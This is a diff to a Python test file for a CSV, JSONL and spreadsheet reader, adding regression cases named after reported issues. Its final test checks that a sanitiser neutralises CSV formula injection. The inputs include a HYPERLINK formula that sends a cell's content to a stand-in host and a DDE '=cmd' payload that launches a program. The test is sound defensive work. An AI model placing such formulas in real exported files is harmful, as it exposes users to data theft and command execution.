@@ -3,15 +3,17 @@
 "near" is before the thread of a file that is like a reported one.
 """
 
+import codecs
 from collections.abc import Mapping
 
 import pytest
 
+from api.csvcells import harmless
 from tests.api.batches.sheets import REL, book, packed, sheet
 from tests.api.batches.test_reading import read, refusal
 from tests.api.batches.test_workbooks import HEAD, cell
 
-MARK = b"\xef\xbb\xbf"
+MARK = codecs.BOM_UTF8
 
 CSV: Mapping[str, tuple[bytes, list[str], list[list[str]]]] = {
     "mechatroner/vscode_rainbow_csv#108": (b"sep=;\nOne;Two\n1;2\n", ["One", "Two"], [["1", "2"]]),
@@ -37,6 +39,10 @@ CSV: Mapping[str, tuple[bytes, list[str], list[list[str]]]] = {
     "adaltas/node-csv#330 rows": (b"A,B\na,b,,,,\n", ["A", "B"], [["a", "b"]]),
     "adaltas/node-csv#330 names": (b"A,B,\na,b\n", ["A", "B"], [["a", "b"]]),
     "adaltas/node-csv-parse#120": (b"h1,h2, \n1,2, \n4,5, ", ["h1", "h2"], [["1", "2"], ["4", "5"]]),
+    "fsprojects/FSharp.Data#688": (b"a,b,c,\n1,2,3\n", ["a", "b", "c"], [["1", "2", "3"]]),
+    "OpenDataRepository/data-publisher#84": (b"a,b,,,\n1,2,,,\n", ["a", "b"], [["1", "2"]]),
+    "pcreux/csv-importer#54": (b",,\n,email,name\n,a@b,Ann\n", ["", "email", "name"], [["", "a@b", "Ann"]]),
+    "mldbai/mldb#365": (MARK + b"a,b,\n1,2,\n", ["a", "b"], [["1", "2"]]),
 }
 
 
@@ -45,6 +51,13 @@ def test_a_reported_csv_file_is_read(thread: str) -> None:
     data, columns, rows = CSV[thread]
     found = read(data)
     assert (found[0], found[1], found[3]) == (columns, rows, [])
+
+
+def test_a_short_row_is_a_problem_with_its_line() -> None:
+    """mautic/mautic#610: such rows were passed over without a word."""
+    _, rows, _, problems = read(b"firstname,email,note\nann,a@b,\nbob,b@c\n")
+    assert rows == [["ann", "a@b", ""]]
+    assert problems == [(3, "The first row names 3 columns; this row has 2.")]
 
 
 JSONL: Mapping[str, tuple[bytes, list[list[str]]]] = {
@@ -63,7 +76,7 @@ def test_a_reported_jsonl_file_is_read(thread: str) -> None:
     assert (found[1], found[3]) == (rows, [])
 
 
-WHOLE = "one whole JSON object on each line"
+WHOLE = "each line must be one whole JSON object"
 REFUSED: Mapping[str, tuple[bytes, str, str]] = {
     "nuprl/MultiPL-E#81": (b'[\n  {\n    "a": 1\n  }\n]\n', "a.jsonl", WHOLE),
     "near nuprl/MultiPL-E#81: on a line": (b'[{"a": 1}, {"a": 2}]', "a.json", WHOLE),
@@ -72,16 +85,20 @@ REFUSED: Mapping[str, tuple[bytes, str, str]] = {
     "ncbi/datasets#523": (b'{"a": 1}{"a": 2}\n', "a.jsonl", WHOLE),
     "openai-php/client#107": (b'{"prompt": "How?", completion: Kama}\n', "a.jsonl", WHOLE),
     "kgabis/parson#178": (b'{"a": 10, "b": 20,}\n', "a.jsonl", WHOLE),
+    "opentargets/issues#211": (b'{\n  "id": 1,\n  "text": "x"\n}\n', "a.jsonl", WHOLE),
+    "pkiraly/metadata-qa-api#184": (b'[{"id": 1, "text": "x"}]', "a.jsonl", WHOLE),
+    "farling42/obsidian-import-json#39": (b'{"id": 1},\n{"id": 2},\n', "a.jsonl", WHOLE),
+    "quotes of Python": (b"{'id': 1}\n", "a.jsonl", WHOLE),
 }
 
 
 @pytest.mark.parametrize("thread", REFUSED)
-def test_a_reported_file_that_is_no_jsonl_is_refused_with_what_is_wrong(thread: str) -> None:
+def test_a_reported_file_that_is_not_jsonl_is_refused_with_what_is_wrong(thread: str) -> None:
     data, name, why = REFUSED[thread]
     assert why in refusal(data, name)
 
 
-def test_a_reported_line_that_is_no_json_is_named_by_its_place_in_the_file() -> None:
+def test_a_reported_line_that_is_not_json_is_named_by_its_place_in_the_file() -> None:
     """wandb/rai-toolkit#82."""
     _, rows, lines, problems = read(b'\n{"prompt":"valid row"}\n\n{"prompt": \n[]\n', "a.jsonl")
     assert (rows, lines, [line for line, _ in problems]) == ([["valid row"]], [2], [4, 5])
@@ -169,6 +186,19 @@ def test_a_reported_duration_is_shown(code: str | int, value: str, shown: str) -
 
 
 @pytest.mark.parametrize(
+    ("code", "value", "shown"),
+    [
+        pytest.param("0000000", "123", "0000123", id="tidyverse/readxl#389"),
+        pytest.param("00000", "2035", "02035", id="tealeg/xlsx#623"),
+        pytest.param("00000", "6791", "06791", id="shuchkin/simplexlsx#97"),
+        pytest.param("00000-0000", "21380001", "02138-0001", id="pandas-dev/pandas#46895"),
+    ],
+)
+def test_a_reported_number_keeps_the_leading_zeros_of_its_format(code: str, value: str, shown: str) -> None:
+    assert cell(f'<c r="B2" s="1"><v>{value}</v></c>', formats=[code]) == shown
+
+
+@pytest.mark.parametrize(
     ("markup", "shown"),
     [
         pytest.param("_x005F_x000D_", "_x000D_", id="exceljs/exceljs#584"),
@@ -185,3 +215,21 @@ def test_a_reported_escape_is_undone(markup: str, shown: str) -> None:
 def test_a_formula_with_an_empty_text_for_its_result_has_one() -> None:
     """office-kit/xlsx#121."""
     assert cell('<c r="B2" t="str"><f>[1]Extern!$A$1</f><v/></c>') == ""
+
+
+@pytest.mark.parametrize(
+    ("given", "written"),
+    [
+        pytest.param("-123", "-123", id="ONSdigital/dis-wagtail#621"),
+        pytest.param("-0.02", "-0.02", id="hhurz/tableExport.jquery.plugin#296"),
+        pytest.param(
+            '=HYPERLINK("https://e.test?d="&A1,"x")',
+            '\'=HYPERLINK("https://e.test?d="&A1,"x")',
+            id="calcom/cal.diy#29844",
+        ),
+        pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="hhurz/tableExport.jquery.plugin#230"),
+        pytest.param("\t=1+1", "'\t=1+1", id="brightdata/sdk-python#52"),
+    ],
+)
+def test_a_reported_number_stays_and_a_formula_does_not(given: str, written: str) -> None:
+    assert harmless(given) == written
